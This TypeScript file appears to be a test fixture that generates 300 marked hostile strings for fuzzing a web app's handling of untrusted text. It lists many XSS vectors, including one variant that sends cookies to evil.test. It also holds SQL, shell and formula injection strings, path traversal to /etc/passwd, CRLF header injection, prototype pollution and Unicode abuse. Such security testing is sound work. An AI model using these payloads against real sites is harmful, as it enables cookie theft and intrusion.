/** The numbers of the texts whose marks are in this. */
export function findMarks(text: string): Set<number> {
  return new Set([...text.matchAll(/§(\d+);/g)].map(([, number]) => Number(number)))
}

/** The text, cut to what a field takes, with its mark. */
export const cutTo = (length: number, text: string): string => {
  const mark = text.slice(text.lastIndexOf('//§'))
  return text.length <= length ? text : text.slice(0, length - mark.length).toWellFormed() + mark
}

/** Code stands for RUN. */
const vectors = String.raw`
<script>RUN</script>
<ScRiPt>RUN</sCrIpT>
<script/x>RUN</script/x>
<script src=//evil.test/x.js></script>
<script src="data:text/javascript,RUN"></script>
<script type=module>RUN</script>
<svg><script>RUN</script></svg>
<svg><script href="data:,RUN"/></svg>
<svg onload=RUN>
<svg/onload=RUN//
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set onbegin=RUN attributeName=x>
<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='RUN'/>#x">
<svg><foreignObject><iframe src="javascript:RUN"></foreignObject></svg>
<svg><style><img src=x onerror=RUN></style></svg>
<img src=x onerror=RUN>
<img src=x:x onerror=RUN//
<img/src="x"/onerror="RUN">
<img src=x oneonerrorrror=RUN onerror=RUN>
<img src=//evil.test/i.png onload=RUN>
<img srcset="//evil.test/s.png 1x" onerror=RUN>
<image src=x onerror=RUN>
<IMG """><SCRIPT>RUN</SCRIPT>">
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
"/><svg onload=RUN>
--><img src=x onerror=RUN>
]]><img src=x onerror=RUN>
</title><img src=x onerror=RUN>
</textarea><img src=x onerror=RUN>
</style><img src=x onerror=RUN>
</script><img src=x onerror=RUN>
</noscript><img src=x onerror=RUN>
</template><img src=x onerror=RUN>
</select><img src=x onerror=RUN>
" autofocus onfocus=RUN x="
' onmouseover=RUN x='
" onpointerenter=RUN style=position:fixed;inset:0 x="
onclick=RUN
<body onload=RUN>
<body onpageshow=RUN>
<html onmouseenter=RUN>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN>
<button popovertarget=x>x</button><xss onbeforetoggle=RUN popover id=x>
<video onerror=RUN><source src=x></video>
<video src=x onerror=RUN>
<audio src=x onerror=RUN>
<details open ontoggle=RUN>
<marquee onstart=RUN>
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src=//evil.test></iframe>
<iframe onload=RUN></iframe>
<object data="javascript:RUN"></object>
<object data=//evil.test/o type=text/html></object>
<embed src="javascript:RUN">
<embed src=//evil.test/e.swf>
<a href="javascript:RUN">x</a>
<a href="java&#x09;script:RUN">x</a>
<form action="javascript:RUN"><button>x</button></form>
<button formaction="javascript:RUN">x</button>
<isindex action="javascript:RUN" type=image>
<math href="javascript:RUN">x</math>
<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<noscript><p title="</noscript><img src=x onerror=RUN>">
<p title="</p><img src=x onerror=RUN>">
<xmp><p title="</xmp><img src=x onerror=RUN>">
<table><td background="javascript:RUN">
<style>@import'//evil.test/x.css';</style><img src=x onerror=RUN>
<link rel=stylesheet href="data:,*{}" onload=RUN>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<base href="javascript:RUN//">
<template shadowrootmode=open><img src=x onerror=RUN></template>
<x contenteditable onblur=RUN tabindex=1 id=x>x</x>
<style>@keyframes x{}</style><x style="animation-name:x" onanimationstart=RUN></x>
<x style="transition:outline 1s" ontransitionend=RUN tabindex=1></x>
<img src=x onerror=\u0061lert(1)>
<!--><img src=x onerror=RUN>-->
<?xml-stylesheet href="javascript:RUN"?>
<![CDATA[<img src=x onerror=RUN>]]>
<%00script>RUN</%00script>
&lt;script&gt;RUN&lt;/script&gt;
&#60;img src=x onerror=RUN&#62;
%3Cimg%20src%3Dx%20onerror%3DRUN%3E
\x3cimg src=x onerror=RUN\x3e
\u003cscript\u003eRUN\u003c/script\u003e
＜script＞RUN＜/script＞
javascript:RUN
JaVaScRiPt:RUN
java&Tab;script:RUN
javascript&colon;RUN
vbscript:RUN
data:text/html,<script>RUN</script>
blob:https://evil.test/RUN
{{constructor.constructor('RUN')()}}
{{$on.constructor('RUN')()}}
{{_c.constructor('RUN')()}}
\${RUN}
#{RUN}
<%= RUN %>
[[\${RUN}]]
{%raw%}<script>RUN</script>{%endraw%}
';RUN;'
";RUN;"
\';RUN;//
</script><script>RUN</script>
*/RUN/*
`
  .trim()
  .split('\n')

/** What needs no code to do harm, or breaks what is careless with texts. */
const others: readonly string[] = [
  '<b>bold</b><h1>huge</h1><hr>',
  '<style>*{display:none!important}</style>',
  '<style>input[value^=a]{background:url(//evil.test/a)}</style>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<link rel=prefetch href=//evil.test/p>',
  '<link rel=dns-prefetch href=//evil.test>',
  '<meta http-equiv=refresh content="0;url=//evil.test">',
  '<meta http-equiv=content-security-policy content="default-src *">',
  '<base href=//evil.test/>',
  '<form action=//evil.test><input name=password></form>',
  '<img src=//evil.test/pixel.gif>',
  '<img src="https://evil.test/p?c=',
  '<div style="background:url(//evil.test/b)">',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">',
  '<a href=//evil.test target=_blank>sign in again</a>',
  '<div id=root></div><div id=__proto__>',
  '<img name=getElementById><form id=body><input name=cookie></form>',
  '<plaintext>',
  '<!--',
  '<![CDATA[',
  '<svg><',
  '<textarea>',
  '<select><option>',
  '</div></main></body></html>',
  'background:url(//evil.test/css)',
  'red;}*{display:none}/*',
  'expression(alert(1))',
  '//evil.test/x.png',
  'https://evil.test/x.png',
  'https://user:password@evil.test/',
  'https://127.0.0.1@evil.test/',
  String.raw`\\evil.test\share\x.png`,
  'file:///etc/passwd',
  'ftp://evil.test/x',
  'ws://evil.test/x',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  'about:blank',
  'chrome://settings',
  '[x](javascript:alert(1))',
  '![x](//evil.test/md.png)',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'constructor[prototype][polluted]=1',
  '{"__proto__":{"polluted":1}}',
  '[object Object]',
  'undefined',
  'null',
  'NaN',
  '-1',
  '1e999',
  '0x7fffffff',
  "' or '1'='1",
  "'; drop table teams.members; --",
  '$(touch /tmp/x)',
  '`touch /tmp/x`',
  '| calc.exe',
  '=cmd|" /C calc"!A0',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  '%00',
  '&#0;',
  '%s%s%s%n',
  '%E0%A4%A',
  '\u202egnp.exe',
  '\u202e\u202d\u202b\u202aall of them',
  '\u2066\u2067\u2068isolates that never end',
  '\u200f\u200e\u061cmarks of direction',
  '\u200b\u200c\u200d\u2060\ufeffwidthless',
  'مرحبا <img src=x onerror=alert(1)> שלום',
  `z${'\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307'.repeat(40)}`,
  `${'Z\u0351\u0363\u0334'.repeat(60)}algo`,
  '\u0e49'.repeat(80),
  'ᄀ'.repeat(60),
  '👩‍👩‍👧‍👦'.repeat(40),
  '🇩🇪'.repeat(60),
  '😀\ufe0f\u20e3'.repeat(40),
  '﷽'.repeat(40),
  '𒐫'.repeat(40),
  '\u2028alert(1)\u2029',
  '\u0001\u0002\u0008\u000b\u000c\u001b[31mred\u001b[0m',
  '\u0085\u009b31m',
  '\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
  '\t\t\ttabs\t\t\t',
  '\n\n\n\n\n\n\n\nlines\n\n\n\n',
  '   ',
  '\u00a0\u3000\u2003',
  'ﾠﾠﾠ\u3164\u115f\u1160',
  '\ufffd\uffff\ufdd0',
  '\u{e0041}\u{e0042}\u{e007f}',
  'ｊａｖａｓｃｒｉｐｔ:alert(1)',
  'ʺ＞＜ｉｍｇ src=x onerror=alert(1)＞',
  '＇ onfocus=alert(1) autofocus ＇',
  '¼script¾alert(1)¼/script¾',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\u2039script\u203aalert(1)\u2039/script\u203a',
  'K\u212aſı\u0130 folds',
  'ß'.repeat(60),
  'W'.repeat(300),
  'a'.repeat(5000),
  '<'.repeat(1000),
  '<div>'.repeat(400),
  '&amp;'.repeat(200),
  '"'.repeat(300),
  '\\'.repeat(300),
  '(((((((((((((((((((((((((a+)+)+)+)+',
]

/** Every vector with code that shows, then the rest, then vectors with other code until there are 300. */
function writeTexts(): string[] {
  const write = (code: string) => vectors.map((vector) => vector.replaceAll('RUN', code))
  const again = [...write("complain('ran')"), ...write("fetch('//evil.test/'+document.cookie)")]
  const all = [...write('alert(1)'), ...others, ...again]
  return all.slice(0, 300).map((text, number) => `${text}//§${number};`)
}

/**
 * What somebody would write to have it run, load, or break out of its place on somebody else's page. Each ends in a mark
 * of its own, by which it is found on a screen, behind `//`, which is a comment where any of it runs.
 */
export const hostileTexts: readonly string[] = writeTexts()
